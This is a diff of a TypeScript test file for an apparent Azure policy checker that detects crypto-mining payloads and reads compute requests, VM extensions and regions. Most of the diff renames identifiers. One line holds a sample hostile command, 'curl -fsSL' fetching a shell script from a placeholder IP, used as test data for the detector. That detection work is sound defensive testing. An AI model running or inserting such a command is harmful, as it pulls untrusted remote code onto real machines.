@@ -1,11 +1,11 @@
 import assert from "node:assert/strict";
 import { factsOf, factsOfArm } from "../../compute/facts-of";
-import { surface } from "../../compute/types";
-import type { ExtensionRow, Shape } from "../../compute/types/compute-type";
+import { computeTypes } from "../../compute/types";
+import type { ExtensionShape, Shape } from "../../compute/types/compute-type";
 import { type Tree, type Value, Withheld } from "../../compute/value";
 import miningPayload from "../../policies/mining-payload";
 import { judge } from "../../policies/policy";
-import { payloadsBeside, triedIn } from "./read-truths-payloads";
+import { rarePayloads, triedIn } from "./read-truths-payloads";
 import { put } from "./tree";
 
 const isArm = (type: string) => !type.includes(":");
@@ -15,8 +15,8 @@ const shown = (leaf: Value<string>) => (leaf.state === "known" ? `${leaf.path} =
 
 const marker = "curl -fsSL https://198.51.100.7/a.sh";
 
-describe("reading payloads of what is seldom ordered", () => {
-  for (const truth of payloadsBeside)
+describe("reading payloads of what is seldom created", () => {
+  for (const truth of rarePayloads)
     for (const [type, path] of triedIn(truth))
       it(`${type}: ${truth[2]} at ${path}`, () => {
         const payloads = (leaf: Tree) => {
@@ -73,8 +73,8 @@ describe("reading extensions of machines that are not Azure's", () => {
     });
 
   it("is tried for every row that is an extension of them", () => {
-    const own = ({ extensions: rows = [] }: Shape) => rows.some(({ fixed }: ExtensionRow) => !fixed);
-    const rows = surface.filter(({ arm }) => /^Microsoft\.(AzureStackHCI|ConnectedVMware|ScVmm)/.test(arm));
+    const own = ({ extensions: rows = [] }: Shape) => rows.some(({ fixed }: ExtensionShape) => !fixed);
+    const rows = computeTypes.filter(({ arm }) => /^Microsoft\.(AzureStackHCI|ConnectedVMware|ScVmm)/.test(arm));
     const expected = rows.flatMap(row => [
       ...(own(row) ? [row.arm, ...row.native.map(type => `azure-native:${type}`)] : []),
       ...(row.classic ?? []).filter(own).flatMap(({ types }) => types.map(type => `azure:${type}`)),
@@ -169,7 +169,7 @@ const mines: readonly (readonly [type: string, path: string, tree: Tree])[] = [
   ],
 ];
 
-describe("a miner in what is seldom ordered", () => {
+describe("a miner in what is seldom created", () => {
   for (const [type, path, tree] of mines)
     it(`is found in ${type}`, () => {
       const facts = factsAt(type, { ...(start(type) as object), ...(tree as object) });
@@ -182,7 +182,7 @@ describe("a miner in what is seldom ordered", () => {
     });
 });
 
-describe("what is seldom ordered, beside its sizes", () => {
+describe("what is seldom created, beside its sizes", () => {
   it("has the region that it names for itself", () => {
     const regions = (type: string, tree: Tree) => factsAt(type, tree)?.regions.map(({ region }) => shown(region));
     assert.deepEqual(
@@ -209,14 +209,14 @@ describe("what is seldom ordered, beside its sizes", () => {
     );
   });
 
-  it("orders nothing for an agent that Azure hosts among others", () => {
-    const orders = (deploymentType: Tree) =>
+  it("requests nothing for an agent that Azure hosts among others", () => {
+    const requests = (deploymentType: Tree) =>
       factsOf("azure-native:cognitiveservices:AgentDeployment", {
         properties: { deploymentType, maxReplicas: 30 },
-      })?.orders.map(({ ceiling }) => ceiling.state);
-    assert.deepEqual(orders("Managed"), []);
-    assert.deepEqual(orders("Hosted"), ["known"]);
-    assert.deepEqual(orders(new Withheld("unknown")), ["known"]);
+      })?.requests.map(({ ceiling }) => ceiling.state);
+    assert.deepEqual(requests("Managed"), []);
+    assert.deepEqual(requests("Hosted"), ["known"]);
+    assert.deepEqual(requests(new Withheld("unknown")), ["known"]);
   });
 
   it("counts the machines of each role of a cloud service", () => {
@@ -226,7 +226,7 @@ describe("what is seldom ordered, beside its sizes", () => {
     ];
     const type = "Microsoft.Compute/cloudServices";
     assert.deepEqual(
-      factsOfArm({ type, properties: { roleProfile: { roles } } })?.orders.map(({ size, count, choice }) => [
+      factsOfArm({ type, properties: { roleProfile: { roles } } })?.requests.map(({ size, count, choice }) => [
         shown(size),
         count.state === "known" && count.value,
         choice,
@@ -243,19 +243,19 @@ describe("what is seldom ordered, beside its sizes", () => {
       sku: { name: "Compute optimized", size: "Small", capacity: 2 },
     });
     assert.deepEqual(
-      pool?.orders.map(({ accelerator, size, count }) => [accelerator.state, size.state, count]),
+      pool?.requests.map(({ accelerator, size, count }) => [accelerator.state, size.state, count]),
       [["absent", "absent", { state: "known", value: 2, path: "sku.capacity" }]],
     );
   });
 });
 
 describe("a row of the surface", () => {
-  const judged = ["orders", "payloads", "extensions", "regions", "links"] as const;
+  const judged = ["requests", "payloads", "extensions", "regions", "links"] as const;
   const isJudged = (shape: Shape) => judged.some(kind => (shape[kind]?.length ?? 0) > 0);
 
-  it("holds something that a rule judges, or says what can be ordered through it later", () => {
-    const idle = surface.filter(
-      row => !isJudged(row) && !(row.classic ?? []).some(isJudged) && row.doorway === undefined,
+  it("holds something that a rule judges, or says what can be created through it later", () => {
+    const idle = computeTypes.filter(
+      row => !isJudged(row) && !(row.classic ?? []).some(isJudged) && row.dataPlane === undefined,
     );
     assert.deepEqual(
       idle.map(({ arm }) => arm),
